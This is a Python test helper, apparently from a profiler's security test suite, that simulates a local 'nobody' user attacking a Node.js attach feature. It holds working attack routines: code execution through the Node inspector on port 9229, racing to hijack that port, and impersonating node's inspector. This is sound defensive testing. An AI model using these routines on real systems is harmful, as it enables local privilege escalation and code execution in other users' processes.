# What a local user (nobody) does against --nodejs-mode attach-maps, for
# 380-node-attach-hijack.sh and 390-node-attach-fakes.sh; run as nobody.
#
#   poll MARK LOG   connect to 127.0.0.1:9229 every half millisecond; on
#                   the first inspector found, evaluate JS that writes
#                   MARK (with the uid it ran as) and log what happened.
#   race LOG        the moment a nodejs-attach helper runs or a copy of
#                   the writer appears in /tmp, take 127.0.0.1:9229 and
#                   answer as node's inspector would; every request that
#                   reaches it is logged.
#   race-pending LOG PID
#                   the same, the moment SIGUSR1 is pending on PID (its
#                   /proc status is world-readable): after the helper's
#                   last look at the port, before node listens when node
#                   is slow to run (frozen, in the test).
#   fake            pretend to be node: on SIGUSR1 listen on 9229 (its
#                   own socket), answer GET /json/list and the WebSocket
#                   upgrade, then hold the helper (events, no reply to
#                   evaluate).
import base64, hashlib, json, os, select, signal, socket, sys, time

UUID = "0f2b7d3e-1c4a-4b7e-9a55-1d2e3f405162"
GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


def log(path, msg):
    with open(path, "a") as f:
        f.write(msg + "\n")


def recv_until(s, end, limit=65536):
    buf = b""
    while end not in buf and len(buf) < limit:
        d = s.recv(4096)
        if not d:
            break
        buf += d
    return buf


def ws_text(payload):
    p = payload.encode()
    mask = os.urandom(4)
    hdr = bytes([0x81])
    if len(p) < 126:
        hdr += bytes([0x80 | len(p)])
    else:
        hdr += bytes([0x80 | 126]) + len(p).to_bytes(2, "big")
    return hdr + mask + bytes(b ^ mask[i & 3] for i, b in enumerate(p))


def ws_server_text(payload):
    p = payload.encode()
    if len(p) < 126:
        return bytes([0x81, len(p)]) + p
    return bytes([0x81, 126]) + len(p).to_bytes(2, "big") + p


def poll(mark, logf):
    expr = ("require('fs').writeFileSync(%s, 'uid ' + process.getuid())"
            % json.dumps(mark))
    while True:
        try:
            s = socket.create_connection(("127.0.0.1", 9229), timeout=1)
        except OSError:
            time.sleep(0.0005)
            continue
        t0 = time.monotonic()
        try:
            # node answers only requests for a loopback Host
            s.sendall(b"GET /json/list HTTP/1.1\r\n"
                      b"Host: 127.0.0.1:9229\r\n\r\n")
            r = recv_until(s, b"\r\n\r\n")
            head, body = r.split(b"\r\n\r\n", 1)
            n = int([l.split(b":", 1)[1] for l in head.split(b"\r\n")
                     if l.lower().startswith(b"content-length")][0])
            while len(body) < n:
                d = s.recv(65536)
                if not d:
                    break
                body += d
            s.close()
            url = json.loads(body)[0]["webSocketDebuggerUrl"]
            path = url.split("9229", 1)[1]
            s = socket.create_connection(("127.0.0.1", 9229), timeout=1)
            key = base64.b64encode(os.urandom(16)).decode()
            s.sendall(("GET %s HTTP/1.1\r\nHost: 127.0.0.1:9229\r\n"
                       "Upgrade: websocket\r\nConnection: Upgrade\r\n"
                       "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13"
                       "\r\n\r\n" % (path, key)).encode())
            recv_until(s, b"\r\n\r\n")
            s.sendall(ws_text(json.dumps({"id": 1, "method": "Runtime.evaluate",
                      "params": {"expression": expr,
                                 "includeCommandLineAPI": True}})))
            time.sleep(0.2)
            log(logf, "evaluated through the inspector in %.1f ms"
                % ((time.monotonic() - t0) * 1000))
        except Exception as e:
            log(logf, "inspector found, attack failed: %r" % (e,))
        s.close()
        time.sleep(0.5)


def serve_inspector(ls, logf, hold):
    """Answer as node's inspector on the listening socket ls."""
    conns = []
    upgraded = []
    end = time.monotonic() + 10
    while time.monotonic() < end:
        r, _, _ = select.select([ls] + conns, [], [], 0.1)
        if hold:
            # Events, never the reply: the helper waits for its deadline.
            for s in upgraded:
                try:
                    s.sendall(ws_server_text('{"method":"Runtime.'
                                             'executionContextCreated"}'))
                except OSError:
                    pass
        for s in r:
            if s is ls:
                c, _ = ls.accept()
                conns.append(c)
                continue
            try:
                d = s.recv(65536)
            except OSError:
                d = b""
            if not d:
                conns.remove(s)
                if s in upgraded:
                    upgraded.remove(s)
                s.close()
                continue
            if logf:
                log(logf, "request: %r" % d[:60])
            if d.startswith(b"GET /json"):
                body = json.dumps([{"id": UUID, "type": "node",
                    "webSocketDebuggerUrl": "ws://127.0.0.1:9229/" + UUID}])
                s.sendall(("HTTP/1.1 200 OK\r\nContent-Type: application/json"
                           "\r\nContent-Length: %d\r\n\r\n%s"
                           % (len(body), body)).encode())
            elif d.startswith(b"GET /"):
                key = [l.split(b":", 1)[1].strip() for l in d.split(b"\r\n")
                       if l.lower().startswith(b"sec-websocket-key")][0]
                acc = base64.b64encode(hashlib.sha1(key + GUID.encode())
                                       .digest()).decode()
                s.sendall(("HTTP/1.1 101 Switching Protocols\r\nUpgrade: "
                           "websocket\r\nConnection: Upgrade\r\n"
                           "Sec-WebSocket-Accept: %s\r\n\r\n" % acc).encode())
                upgraded.append(s)
            elif not hold:
                s.sendall(ws_server_text(json.dumps({"id": 1, "result": {
                    "result": {"type": "string", "value":
                               "ok (this reply came from uid %d, not from "
                               "node)" % os.getuid()}}})))
    for c in conns:
        c.close()


def usr1_pending(pid):
    try:
        with open("/proc/%s/status" % pid) as f:
            for l in f:
                if l.startswith(("SigPnd:", "ShdPnd:")) and \
                        int(l.split()[1], 16) & (1 << 9):
                    return True
    except OSError:
        pass
    return False


def race(logf, pid=None):
    seen = set(os.listdir("/proc"))
    while True:
        trigger = None
        if pid is not None:
            if usr1_pending(pid):
                trigger = "SIGUSR1 pending on %s" % pid
            else:
                time.sleep(0.001)
                continue
        for p in os.listdir("/proc"):
            if p in seen or not p.isdigit():
                continue
            seen.add(p)
            try:
                with open("/proc/%s/comm" % p) as f:
                    if f.read().strip() == "nodejs-attach":
                        trigger = "helper %s" % p
            except OSError:
                pass
        if trigger is None and pid is None and any(
                n.startswith(".gprofiler-nodejs-perfmap")
                for n in os.listdir("/tmp")):
            trigger = "copy in /tmp"
        if trigger is None:
            time.sleep(0.001)
            continue
        ls = socket.socket()
        ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            ls.bind(("127.0.0.1", 9229))
            ls.listen(16)
        except OSError as e:
            log(logf, "trigger %s: bind failed: %s" % (trigger, e))
            ls.close()
            time.sleep(1)
            continue
        log(logf, "trigger %s: took 127.0.0.1:9229" % trigger)
        serve_inspector(ls, logf, False)
        ls.close()
        if pid is not None:
            time.sleep(3600)


def fake():
    got = []
    signal.signal(signal.SIGUSR1, lambda s, f: got.append(1))
    while not got:
        time.sleep(0.05)
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("127.0.0.1", 9229))
    ls.listen(16)
    serve_inspector(ls, None, True)
    time.sleep(60)


if __name__ == "__main__":
    if sys.argv[1] == "poll":
        poll(sys.argv[2], sys.argv[3])
    elif sys.argv[1] == "race":
        race(sys.argv[2])
    elif sys.argv[1] == "race-pending":
        race(sys.argv[2], sys.argv[3])
    elif sys.argv[1] == "fake":
        fake()
